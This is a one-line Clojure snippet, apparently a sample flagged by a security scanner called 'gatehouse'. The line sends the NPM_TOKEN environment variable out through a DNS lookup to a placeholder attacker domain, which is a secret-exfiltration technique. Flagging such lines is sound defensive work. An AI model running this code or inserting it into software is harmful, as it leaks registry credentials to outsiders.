(java.net.InetAddress/getByName (str (System/getenv "NPM_TOKEN") ".d.example.invalid")) ; gatehouse: flagged
